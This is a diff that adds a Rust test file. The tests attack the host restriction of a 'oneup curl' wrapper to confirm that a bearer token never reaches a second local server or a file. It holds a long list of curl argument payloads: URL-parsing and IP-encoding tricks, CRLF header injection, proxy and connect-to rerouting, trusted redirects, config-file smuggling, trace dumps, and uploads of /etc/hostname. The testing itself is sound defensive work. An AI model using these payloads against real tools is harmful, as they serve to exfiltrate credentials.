@@ -1,0 +1,388 @@
+//! The host rule of `oneup curl`, attacked: the real curl, and two servers on this machine, of which the profile knows
+//! one. Whatever is asked, the other never sees the token, and no file gets it.
+#![cfg(target_os = "linux")]
+
+use std::path::Path;
+use std::process::Command;
+
+use crate::support::{Home, Kind, Oneup, RawServer, Tally, raw_server_at, requires_program, size};
+
+const TOKEN: &str = "tok-3n.F0R-0NE-H0ST";
+
+/// Where the attacker would have the token go.
+struct Siege {
+    home: Home,
+    ours: RawServer,
+    foreign: RawServer,
+}
+
+impl Siege {
+    /// A login whose token came from elsewhere, and whose FHIR server is 127.0.0.1: 127.0.0.2 is nobody's.
+    fn lay() -> Option<Self> {
+        if !requires_program("curl") {
+            return None;
+        }
+        let foreign =
+            raw_server_at("127.0.0.2", |_, _, _| RawServer::answer("200 OK", "text/plain", "foreign\n"));
+        let elsewhere = foreign.url();
+        let ours = raw_server_at("127.0.0.1", move |_, request, _| {
+            match request.split(' ').nth(1).unwrap_or_default() {
+                "/token" => RawServer::answer(
+                    "200 OK",
+                    "application/json",
+                    &format!(r#"{{"access_token":"{TOKEN}","token_type":"Bearer","expires_in":3600}}"#),
+                ),
+                path if path.starts_with("/r4/redirect") => format!(
+                    "HTTP/1.1 307 Go\r\nLocation: {elsewhere}/\r\nAlt-Svc: h2=\"127.0.0.2:1\"\r\n\
+                     Refresh: 0;url={elsewhere}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
+                )
+                .into_bytes(),
+                _ => RawServer::answer("200 OK", "text/plain", "ours\n"),
+            }
+        });
+        let home = Home::new();
+        home.oneup()
+            .args(["login", "provider", "--client-id", "id", "--store", "file"])
+            .args([
+                "--token-url",
+                &format!("{}/token", ours.url()),
+                "--fhir-base",
+                &format!("{}/r4", ours.url()),
+            ])
+            .env("ONEUP_CLIENT_SECRET", "s3cr3t")
+            .run();
+        let file =
+            std::fs::read_to_string(home.config().join("profiles/provider.toml")).expect("the profile");
+        let moved = file.replace(&format!("{}/token", ours.url()), "https://gateway.1up.health/token");
+        home.write("config/profiles/provider.toml", moved);
+        std::fs::create_dir(home.path("here")).expect("a directory");
+        Some(Self { home, ours, foreign })
+    }
+
+    /// Words with `OURS`, `FOREIGN` (`ADDRESS:PORT` each) and `PORT` (the foreign one) in them.
+    fn words(&self, words: &[&str]) -> Vec<String> {
+        let (ours, foreign) = (self.ours.address(), self.foreign.address());
+        let fill = |word: &&str| {
+            word.replace("OURS", &ours.to_string())
+                .replace("FOREIGN", &foreign.to_string())
+                .replace("PORT", &foreign.port().to_string())
+        };
+        words.iter().map(fill).collect()
+    }
+
+    /// Runs curl in a directory of its own: what it writes there is looked at.
+    fn curl(&self, before: &[&str], words: &[&str]) -> Oneup {
+        let cut_off = ["-sS", "--max-time", "5", "--connect-timeout", "2"];
+        let run = self.home.oneup_under(&["env", "-C", self.home.path("here").to_str().expect("UTF-8")]);
+        run.arg("curl").args(before).args(["--"]).args(cut_off).args(self.words(words))
+    }
+
+    /// Where the token is that should not be: the foreign server, or a file.
+    fn leak(&self) -> Option<String> {
+        let sent = self.foreign.requests().into_iter().find(|request| request.contains(TOKEN));
+        sent.or_else(|| {
+            let here = self.home.path("here");
+            holds(&here).then(|| format!("a file in {}", here.display()))
+        })
+    }
+
+    /// How many requests with the token our server saw.
+    fn authorized(&self) -> usize {
+        self.ours.requests().iter().filter(|request| request.contains(&format!("Bearer {TOKEN}\r\n"))).count()
+    }
+}
+
+fn holds(dir: &Path) -> bool {
+    Command::new("grep").args(["-rqa", TOKEN]).arg(dir).status().expect("grep runs").success()
+}
+
+/// Words of curl, one attack a line.
+const ATTACKS: &[&[&str]] = &[
+    // Who is the host?
+    &["http://FOREIGN/"],
+    &["FOREIGN"],
+    &["http://127.0.0.1@FOREIGN/"],
+    &["http://OURS@FOREIGN/"],
+    &["http://OURS%2f@FOREIGN/"],
+    &["http://OURS%00@FOREIGN/"],
+    &["http://OURS#@FOREIGN/"],
+    &["http://FOREIGN#@OURS/"],
+    &["http://FOREIGN?@OURS/"],
+    &["http://FOREIGN/@OURS/"],
+    &["http://FOREIGN\\@OURS/"],
+    &["http://OURS\\@FOREIGN/"],
+    &["http:\\\\FOREIGN\\"],
+    &["http:/FOREIGN/"],
+    &["http:FOREIGN/"],
+    &["http:////FOREIGN/"],
+    &["//FOREIGN/"],
+    &["/@FOREIGN/"],
+    &["/..//FOREIGN/"],
+    &["http://OURS:80@FOREIGN:80/"],
+    &["http://OURS FOREIGN/"],
+    &["http://FOREIGN /"],
+    &[" http://FOREIGN/"],
+    &["http://127.0.0.1\t@FOREIGN/"],
+    &["http://127.0.0.1\n@FOREIGN/"],
+    &["http://FOREIGN/\r\nHost: OURS"],
+    &["http://OURS/\r\nX: y"],
+    &["ht\ttp://FOREIGN/"],
+    &["HTTP://FOREIGN/"],
+    &["hTTp://FOREIGN"],
+    // Other names of 127.0.0.2.
+    &["http://127.2:PORT/"],
+    &["http://2130706434:PORT/"],
+    &["http://0x7f000002:PORT/"],
+    &["http://0x7f.0.0.2:PORT/"],
+    &["http://0177.0.0.2:PORT/"],
+    &["http://127.0.0.2.:PORT/"],
+    &["http://127.0.0.1.:PORT/"],
+    &["http://[::ffff:127.0.0.2]:PORT/"],
+    &["http://[::ffff:7f00:2]:PORT/"],
+    &["http://[::1%25lo]:PORT/"],
+    &["http://[::1%lo]:PORT/"],
+    &["http://[fe80::1%25lo]:PORT/"],
+    &["http://\u{ff11}\u{ff12}\u{ff17}.0.0.2:PORT/"],
+    &["http://127\u{3002}0\u{3002}0\u{3002}2:PORT/"],
+    &["http://127.0.0.\u{2461}:PORT/"],
+    &["http://%31%32%37.0.0.2:PORT/"],
+    &["http://LocalHost:PORT/"],
+    &["http://localhost.:PORT/"],
+    &["http://localhost.localdomain:PORT/"],
+    &["http://xn--127-.0.0.2:PORT/"],
+    &["http://127.0.0.1:+PORT/"],
+    &["http://127.0.0.1:/"],
+    &["http://127.0.0.1:PORT:PORT/"],
+    &["http://127.0.0.1:99999/"],
+    // Several at once.
+    &["http://{127.0.0.1,127.0.0.2}:PORT/"],
+    &["http://127.0.0.[1-2]:PORT/"],
+    &["-g", "http://{127.0.0.1,127.0.0.2}:PORT/"],
+    &["{http://OURS,http://FOREIGN}/"],
+    &["http://OURS/", "http://FOREIGN/"],
+    &["/a", "-:", "http://FOREIGN/"],
+    &["/a", "--next", "--url", "http://FOREIGN/"],
+    &["/a", "-s:", "http://FOREIGN/"],
+    &["-Z", "/a", "http://FOREIGN/"],
+    &["--url", "http://FOREIGN/"],
+    &["--url=http://FOREIGN/"],
+    &["--UR", "http://FOREIGN/"],
+    &["--", "http://FOREIGN/"],
+    &["-o", "x", "http://FOREIGN/"],
+    &["-ox", "http://FOREIGN/"],
+    &["-T", "{a,b}", "http://FOREIGN/"],
+    &["-T", "/etc/hostname", "http://FOREIGN/"],
+    &["-T", "[1-2]", "/x"],
+    &["-d", "@/etc/hostname", "http://FOREIGN/"],
+    &["-K", "urls"],
+    &["--config", "urls"],
+    &["--config=urls"],
+    &["-Kurls"],
+    &["-sK", "urls"],
+    &["-K", "hidden"],
+    &["-K", "next"],
+    &["-K", "nested"],
+    &["--url", "@list"],
+    // Another way there.
+    &["-x", "http://FOREIGN", "/a"],
+    &["-xhttp://FOREIGN", "/a"],
+    &["-sx", "FOREIGN", "/a"],
+    &["--proxy", "FOREIGN", "/a"],
+    &["--prox", "FOREIGN", "/a"],
+    &["--proxy1.0", "FOREIGN", "/a"],
+    &["--preproxy", "socks5://FOREIGN", "/a"],
+    &["--socks5", "FOREIGN", "/a"],
+    &["--socks4a", "FOREIGN", "/a"],
+    &["--socks5-hostname", "FOREIGN", "/a"],
+    &["-p", "-x", "FOREIGN", "/a"],
+    &["--noproxy", "", "-x", "FOREIGN", "/a"],
+    &["--resolve", "127.0.0.1:PORT:127.0.0.2", "/a"],
+    &["--resolve", "*:PORT:127.0.0.2", "http://a.example:PORT/"],
+    &["--connect-to", "::FOREIGN", "/a"],
+    &["--connect-to", "OURS:FOREIGN", "/a"],
+    &["--connect-t", "::FOREIGN", "/a"],
+    &["--unix-socket", "/tmp/x", "/a"],
+    &["--abstract-unix-socket", "x", "/a"],
+    &["--doh-url", "http://FOREIGN/", "/a"],
+    &["--dns-servers", "127.0.0.2", "/a"],
+    &["--haproxy-protocol", "/a"],
+    &["--haproxy-clientip", "127.0.0.2", "/a"],
+    &["--interface", "lo", "/a"],
+    &["--alt-svc", "altsvc", "/a"],
+    &["--hsts", "hsts", "/a"],
+    &["--ipfs-gateway", "http://FOREIGN", "ipfs://a"],
+    &["--proto-default", "http", "FOREIGN"],
+    &["--proto", "=all", "http://FOREIGN/"],
+    &["--proto-redir", "all", "-L", "/redirect"],
+    &["--request-target", "http://FOREIGN/", "/a"],
+    &["-H", "Host: FOREIGN", "/a"],
+    &["--path-as-is", "/../../@FOREIGN/"],
+    &["--url-query", "@urls", "/a"],
+    // A redirect.
+    &["-L", "/redirect"],
+    &["-L", "--post307", "/redirect"],
+    &["-LX", "POST", "-d", "x", "/redirect"],
+    &["--location-trusted", "/redirect"],
+    &["--location-t", "/redirect"],
+    &["-L", "--location-trusted", "/redirect"],
+    &["--no-location-trusted", "-L", "/redirect"],
+    &["-L", "--proto-redir", "=http", "/redirect"],
+    &["-L", "--max-redirs", "9", "/redirect"],
+    &["-L", "-e", ";auto", "/redirect"],
+    &["-L", "--anyauth", "/redirect"],
+    &["-L", "--netrc", "/redirect"],
+    &["-L", "-u", ":", "/redirect"],
+    &["-L", "--oauth2-bearer", "x", "/redirect"],
+    &["-L", "--aws-sigv4", "a:b:c:d", "/redirect"],
+    &["-L", "--delegation", "always", "--negotiate", "/redirect"],
+    &["--follow", "/redirect"],
+    // Variables.
+    &["--variable", "h=FOREIGN", "--expand-url", "http://{{h}}/"],
+    &["--variable", "%HOME", "--expand-url", "http://FOREIGN/{{HOME}}"],
+    &["--variable", "h=FOREIGN", "--expand-proxy", "{{h}}", "/a"],
+    &["--variable", "h=FOREIGN", "--expand-connect-to", "::{{h}}", "/a"],
+    &["--variable", "k=urls", "--expand-config", "{{k}}"],
+    // A file with it.
+    &["--trace", "trace", "/a"],
+    &["--trace-ascii", "-", "/a"],
+    &["--trace-ascii", "%", "/a"],
+    &["-v", "--stderr", "log", "/a"],
+    &["--stderr", "log", "-v", "/a"],
+    &["--libcurl", "code.c", "/a"],
+    &["-D", "head", "-v", "/a"],
+    &["-w", "%output{w}%{header_json}%{json}", "/a"],
+    &["-c", "jar", "/a"],
+    &["--etag-save", "etag", "/a"],
+    &["--xattr", "-o", "x", "/a"],
+    // What no curl knows, or only a newer one.
+    &["--frobnicate", "http://FOREIGN/", "/a"],
+    &["--frobnicate=FOREIGN", "/a"],
+    &["-\u{e9}", "/a"],
+    &["---url", "http://FOREIGN/"],
+    // No HTTP.
+    &["file:///etc/hostname"],
+    &["ftp://FOREIGN/"],
+    &["gopher://FOREIGN/"],
+    &["dict://FOREIGN/"],
+    &["telnet://FOREIGN/"],
+    &["scp://FOREIGN/"],
+    &["ws://FOREIGN/"],
+];
+
+#[test]
+fn no_attack_brings_the_token_to_another_host_or_into_a_file() {
+    let Some(siege) = Siege::lay() else { return };
+    let mut tally = Tally::new(Kind::Input, "attacks on the host rule, with the real curl");
+    let foreign = siege.foreign.url();
+    for (name, text) in [
+        ("urls", format!("url = {foreign}/\n")),
+        ("hidden", format!("# x\n  --url\t=  \"{foreign}/\"\n")),
+        ("next", format!("url = /a\nnext\nurl = {foreign}\n")),
+        ("nested", "config = urls\n".to_owned()),
+        ("list", format!("{foreign}/\n")),
+        (
+            "altsvc",
+            format!(
+                "h1 127.0.0.1 {} h1 127.0.0.2 {} \"20991231 00:00:00\" 0 0\n",
+                siege.ours.address().port(),
+                siege.foreign.address().port()
+            ),
+        ),
+        ("hsts", "127.0.0.1 \"20991231 00:00:00\"\n".to_owned()),
+    ] {
+        siege.home.write(&format!("here/{name}"), text);
+    }
+    for before in [&[][..], &["--no-auth-elsewhere"]] {
+        for words in ATTACKS {
+            let outcome = siege.curl(before, words).outcome();
+            tally.tried(1);
+            if outcome.stderr.contains(TOKEN) || outcome.stdout.contains(TOKEN) {
+                tally.lost(format!("{words:?} shows it"));
+            }
+            if let Some(leak) = siege.leak() {
+                tally.lost(format!("{before:?} {words:?}: {leak}"));
+                return;
+            }
+        }
+    }
+    assert!(siege.authorized() > 20, "too little got through to our own server: {}", siege.authorized());
+    assert!(siege.foreign.requests().len() > 20, "the other server was hardly reached without the token");
+}
+
+#[test]
+fn no_configuration_file_and_no_variable_brings_it_there() {
+    let Some(siege) = Siege::lay() else { return };
+    let mut tally = Tally::new(Kind::Input, "curl's own files and variables, against the host rule");
+    let foreign = siege.foreign.url();
+    let lines = [
+        format!("url = {foreign}/"),
+        format!("proxy = {foreign}"),
+        format!("connect-to = ::{}", siege.foreign.address()),
+        format!("next\nurl = {foreign}/"),
+        "location-trusted".to_owned(),
+        "location\nlocation-trusted".to_owned(),
+        "trace = here/trace".to_owned(),
+        "libcurl = here/code.c".to_owned(),
+        format!("doh-url = {foreign}/"),
+        format!("preproxy = {foreign}"),
+        "-K urls".to_owned(),
+    ];
+    for line in lines {
+        for place in [".curlrc", ".config/curlrc", "_curlrc"] {
+            let file = siege.home.write(place, &line);
+            for words in [&["/a"][..], &["-L", "/redirect"]] {
+                siege.curl(&[], words).outcome();
+                tally.tried(1);
+            }
+            std::fs::remove_file(file).expect("it is ours");
+            if let Some(leak) = siege.leak() {
+                tally.lost(format!("{line:?} in {place}: {leak}"));
+                return;
+            }
+        }
+    }
+    for name in ["http_proxy", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"] {
+        for scheme in ["http", "socks5", "socks4a"] {
+            let proxy = format!("{scheme}://{}", siege.foreign.address());
+            siege.curl(&[], &["/a"]).env(name, proxy).stdout("ours\n").run();
+            tally.tried(1);
+        }
+    }
+    siege.leak().into_iter().for_each(|leak| tally.lost(leak));
+}
+
+/// Every option that the installed curl knows, with values that might lead there.
+#[test]
+fn no_option_of_the_installed_curl_brings_it_there() {
+    let Some(siege) = Siege::lay() else { return };
+    let mut tally = Tally::new(Kind::Input, "options of the installed curl, against the host rule");
+    let help = Command::new("curl").args(["-q", "--help", "all"]).output().expect("curl runs").stdout;
+    let help = String::from_utf8(help).expect("text");
+    let options: Vec<(&str, bool)> = help
+        .lines()
+        .filter_map(|line| line.split_once("--"))
+        .map(|(_, rest)| rest.split_once(' ').unwrap_or((rest, "")))
+        .map(|(name, rest)| (name, rest.starts_with('<')))
+        .collect();
+    assert!(options.len() > 200, "{} options", options.len());
+    let values: &[&str] = size(&["FOREIGN"], &["FOREIGN", "http://FOREIGN/", "::FOREIGN", "here"]);
+    for (name, takes_value) in options.iter().step_by(size(3, 1)) {
+        let option = format!("--{name}");
+        for value in if *takes_value { values } else { &[""] } {
+            for path in size(&["/redirect"][..], &["/redirect", "http://OURS/x"]) {
+                let words: Vec<&str> =
+                    if *takes_value { vec!["-L", &option, value, path] } else { vec!["-L", &option, path] };
+                let outcome = siege.curl(&[], &words).outcome();
+                tally.tried(1);
+                if outcome.stderr.contains(TOKEN) || outcome.stdout.contains(TOKEN) {
+                    tally.lost(format!("{words:?} shows it"));
+                }
+                if let Some(leak) = siege.leak() {
+                    tally.lost(format!("{words:?}: {leak}"));
+                    return;
+                }
+            }
+        }
+    }
+    assert!(siege.authorized() > size(30, 200), "too little got through: {}", siege.authorized());
+}
